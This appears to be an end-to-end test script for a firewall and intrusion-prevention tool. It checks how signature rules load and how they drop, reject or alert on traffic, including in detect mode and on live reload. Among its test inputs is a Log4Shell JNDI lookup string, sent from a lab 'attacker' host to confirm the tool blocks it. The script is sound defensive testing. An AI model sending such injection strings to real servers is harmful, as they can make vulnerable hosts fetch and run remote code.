#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
# Signatures end to end: what they drop, whom they block, what is reported, and that a new
# set replaces the old one without a gap.
. "$(dirname "$0")/lib.sh"

mkdir "$work/www"
echo hello >"$work/www/index.html"
lab_listen "$work/www" 80 6379 || not_ok "the server listens"
cat >"$work/own.rules" <<'END'
alert tcp any any -> any 80 (msg:"a word"; content:"curious-word"; sid:100;)
drop tcp any any -> any 80 (msg:"a bad word"; flow:to_server,established; http.uri; content:"/forbidden-word"; nocase; sid:101; rev:3; classtype:web-application-attack; reference:url,example.org;)
reject tcp any any -> any 80 (msg:"an attack"; flow:to_server,established; http.header; content:"attack-word"; sid:102;)
drop udp any any -> any 5353 (msg:"a datagram"; content:"udp-word"; sid:103;)
alert tcp any any -> any 80 (msg:"an expression"; content:"pcre-word"; pcre:"/(x)\1/"; sid:104;)
END
printf 'mode = enforce\nrules {\nbuiltin = false\n}\nservices = { "udp/5353" }\n' >"$config"

# ask FROM PATH [OPTION...]: does the page come?
ask() {
	local from=$1 path=$2
	shift 2
	lab_in attacker curl -gs -o /dev/null -m "$(scaled 5)" --interface "$from" "$@" "http://$target4$path"
}
# The connection is reset, and nobody waits.
is_reset() {
	ask "$@"
	[ $? = 56 ]
}
hits() {
	sw_json ".rules[] | select(.signature_id == $1) | .hits" rules stats
}
event_of() {
	sw_json "[.events[] | select(.alert.signature_id == $1)] | last | $2" events
}
has_event() {
	[ "$(event_of "$1" .event_type)" != null ]
}

# ---- check

expect 0 "check reads a file, attached or not" "$scanwall" -c "$config" rules check "$work/own.rules"
says "the summary counts what is taken and what is not, and why" \
	'5 rules read: 4 accepted \(80.0 %\), 1 refused' '^ +1 +regular expression \(pcre\)' \
	'own.rules:5: sid 104: .*pcre'
expect 0 "lenient takes a rule with pcre" "$scanwall" -c "$config" rules check --lenient "$work/own.rules"
says "as an alert" '5 accepted'
expect 3 "strict: not all of it was taken" "$scanwall" -c "$config" --strict rules check "$work/own.rules"
refused 2 "a file that is not there" '/nowhere.rules' "$scanwall" -c "$config" rules check /nowhere.rules
refused 2 "an unknown subcommand" "did you mean check" "$scanwall" -c "$config" rules chekc x

# ---- load

sw attach net1 net0 -q
daemon_start "the daemon runs"
expect 0 "load" sw rules load "$work/own.rules"
says "it says how many are in force" '4 rules are in force'
is "they are listed" "$(sw_json '[.rules[].signature_id] | join(" ")' rules list)" "100 101 102 103"
expect 0 "one is shown" sw rules show 101
says "with all that is known of it" 'a bad word' 'action +drop' 'category +web-application-attack' \
	'reference .*example.org' 'own.rules:2, revision 3' 'text +drop tcp'
refused 1 "one that is not there" 'no such rule: 999' sw rules show 999
refused 2 "a missing file changes nothing" 'nowhere.rules' sw rules load /nowhere.rules
is "nothing is changed" "$(sw_json '.rules | length' rules list)" 4

# ---- what they do

new_self
check "a page comes" ask "$source4" /
check "an alert lets it pass" ask "$source4" '/?q=curious-word'
check "and is told" eventually 5 has_event 100
is "as an alert" "$(event_of 100 .alert.action)" alert
is "with the bytes that matched" "$(event_of 100 .alert.matched)" curious-word
is "and the flow" "$(event_of 100 '.src_ip + " " + (.dest_port | tostring)')" "$source4 80"
check "drop ends the connection" is_reset "$source4" /Forbidden-Word
is "the server's, too" "$(lab_in server ss -Htn state established "dst $source4")" ""
check "percent signs hide nothing" is_reset "$source4" /%46orbidden%2dword
check "its source is not blocked" ask "$source4" /
check "it is told" eventually 5 has_event 101
is "as a drop" "$(event_of 101 '.alert.action + " " + .alert.signature + " " + .alert.category')" \
	"drop a bad word web-application-attack"
check "reject ends the connection" not ask "$source4" / -H 'X-A: attack-word'
check "and blocks its source, for open connections too" eventually 5 not ask "$source4" /
check "which is told" eventually 5 has_event 102
is "as a block" "$(event_of 102 .event_type)" block
is "that is proven" "$(event_of 102 .new_only)" false
sw show "$source4" >"$work/show"
check "show says why" grep -q 'an attack.*signature 102' "$work/show"
is "what TCP sends again is no hit" "$(hits 101) $(hits 102)" "2 1"
expect 0 "stats" sw stats
says "stats name the rules that were hit" '101 +[0-9]+ +[0-9]+ .*a bad word'
expect 0 "rules stats" sw rules stats
says "most hits first" 'SID +HITS +DROPPED +TRIED'
check "the visitor is not concerned" fetch visitor "$visitor4" "http://$site4/"

# Who speaks for many loses the connection only.
new_self
check "an attack through a proxy is stopped" is_reset "$source4" / \
	-H 'X-A: attack-word' -H 'X-Forwarded-For: 192.0.2.77'
check "the proxy is not blocked" ask "$source4" /
is "whom it came from is told" "$(event_of 102 '.client.address + " " + (.client.believed | tostring)')" \
	"192.0.2.77 false"
new_self
sw config set proxies "$source4" -q
check "nor is one of the configuration" is_reset "$source4" / -H 'X-A: attack-word' -H 'X-Real-IP: 192.0.2.78'
is "whose word is believed" "$(event_of 102 '.client.address + " " + (.client.believed | tostring)')" \
	"192.0.2.78 true"
sw config unset proxies -q
new_self
sw allow "$source4" -q
check "who is allowed is stopped all the same" is_reset "$source4" / -H 'X-A: attack-word'
check "but not blocked" ask "$source4" /
is "who is allowed is not trusted" "$(sw list allowed --json | jq -c '[.allowed[].trusted]')" '[false]'
check "trust it" sw allow "$source4" --trust -q
check "who is trusted is not stopped" ask "$source4" / -H 'X-A: attack-word'
is "saved" "$(sw save - | grep -c -- "^allow $source4 --trust --ttl permanent")" 1
sw unallow "$source4" -q

# Without a daemon the segment itself goes on as a reset, and the peer's next
# one gets the kernel's.
daemon_end
new_self
check "without a daemon it ends as well" is_reset "$source4" /forbidden-word
is "at the server, too" "$(lab_in server ss -Htn state established "dst $source4")" ""
daemon_start "the daemon runs again"

# A datagram's source may be forged: it is dropped, nobody is blocked.
new_self
lab_in attacker python3 - "$source4" "$target4" <<'END'
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[1], 0))
for _ in range(5):
    s.sendto(b"a udp-word", (sys.argv[2], 5353))
END
is "datagrams are dropped" "$(hits 103)" 5
check "but their source is not blocked" ask "$source4" /

# ---- what the host answers

cat >"$work/answers.rules" <<'END'
drop http $HOME_NET any -> $EXTERNAL_NET any (msg:"a page"; flow:to_client; http.stat_code; content:"200"; file.data; content:"behind-it-all"; sid:110;)
END
{ head -c 20000 /dev/zero | tr '\0' .; echo behind-it-all; } >"$work/www/long.html"
new_self
expect 0 "rules about answers are loaded" sw rules load "$work/own.rules" "$work/answers.rules"
check "an answer that matches comes whole" ask "$source4" /long.html
check "and is told" eventually 5 has_event 110
is "of the client" "$(event_of 110 '.src_ip + " " + (.dest_port | tostring) + " " + .alert.action')" \
	"$source4 80 answered"
is "once" "$(hits 110)" 1
for _ in 1 2 3 4 5 6; do ask "$source4" /long.html; done
check "nobody is blocked for it" ask "$source4" /
sw rules load -q "$work/own.rules"

# ---- switched off and on

expect 0 "disable" sw rules disable 101
check "what is disabled drops nothing" ask "$source4" /forbidden-word
sw rules load -q
check "it stays disabled when rules are loaded again" ask "$source4" /forbidden-word
is "and is listed so" "$(sw_json '.rules[] | select(.signature_id == 101) | .enabled' rules list)" false
expect 0 "enable" sw rules enable 101
check "what is enabled drops" not ask "$source4" /forbidden-word
refused 2 "disable of what is not there" 'no such rule: 999' sw rules disable 999
expect 3 "strict: it was enabled already" sw --strict rules enable 101

# ---- without a gap

new_self
( for _ in $(seq 40); do sw rules load -q; done ) &
loader=$!
passed=0 asked=0
while kill -0 "$loader" 2>/dev/null; do
	lab_in attacker curl -gs -o /dev/null -m "$(scaled 0.2)" --interface "$source4" \
		"http://$target4/forbidden-word" && passed=$((passed + 1))
	asked=$((asked + 1))
done
wait "$loader"
is "nothing passes while rules are replaced ($asked requests)" "$passed" 0

# ---- detect mode, the daemon, the configuration

sw mode detect -q
new_self
check "in detect mode everything passes" ask "$source4" /forbidden-word -H 'X-A: attack-word'
check "and is told" eventually 5 has_event 102
is "as what would be" "$(event_of 102 .event_type)" would-block
sw mode enforce -q
printf 'mode = enforce\nrules {\nbuiltin = true\n}\n' >"$config"
expect 0 "reload" sw reload
check "the built-in rules are in force" test "$(sw_json '.rules | length' rules list)" -gt 100
sw config unset rules.files -q
printf 'rules {\nfiles = { "/nowhere.rules" }\n}\n' >"$config"
refused 2 "reload refuses a file that is not there" '/nowhere.rules' sw reload
: >"$config"
check "the rules in force stay" test "$(sw_json '.rules | length' rules list)" -gt 100
new_self
check "a page comes with the built-in rules" ask "$source4" /
check "Log4Shell does not" not ask "$source4" / -A '${jndi:ldap://198.51.100.9/a}'
sw mode enforce -q
check "its source is blocked" eventually 5 not ask "$source4" /
daemon_end
is "the daemon ends well" "$code" 0
sw detach --all -q

# ---- a kernel that refuses what is no must

check "such a kernel" cc -shared -fPIC -D_GNU_SOURCE -o "$work/refuse.so" "$top/tests/e2e/refuse.c"
export LD_PRELOAD="$work/refuse.so" REFUSE='respond challenge answer'
expect 0 "attach goes on without them" sw attach net1 --mode enforce
says "and says so" '^signatures are off: this kernel refused' '^challenges are off: this kernel refused' \
	'^refusals by services are not seen: '
expect 0 "rules load" sw rules load
says "says so as well" 'signatures are off'
unset LD_PRELOAD REFUSE
new_self
check "payloads pass" ask "$source4" '/?x=${jndi:ldap://198.51.100.9/a}'
new_self
scan "$source4" "$target4" -sS >/dev/null
check "scanners are blocked all the same" cut4
sw attach net1 -q
new_self
check "the next load brings them back" not ask "$source4" '/?x=${jndi:ldap://198.51.100.9/a}'
sw detach --all -q
events_are_valid() {
	sw events --json | "$top/tests/e2e/valid_json.py" events
}
check "its events are those of docs/schema.json" events_are_valid

finish
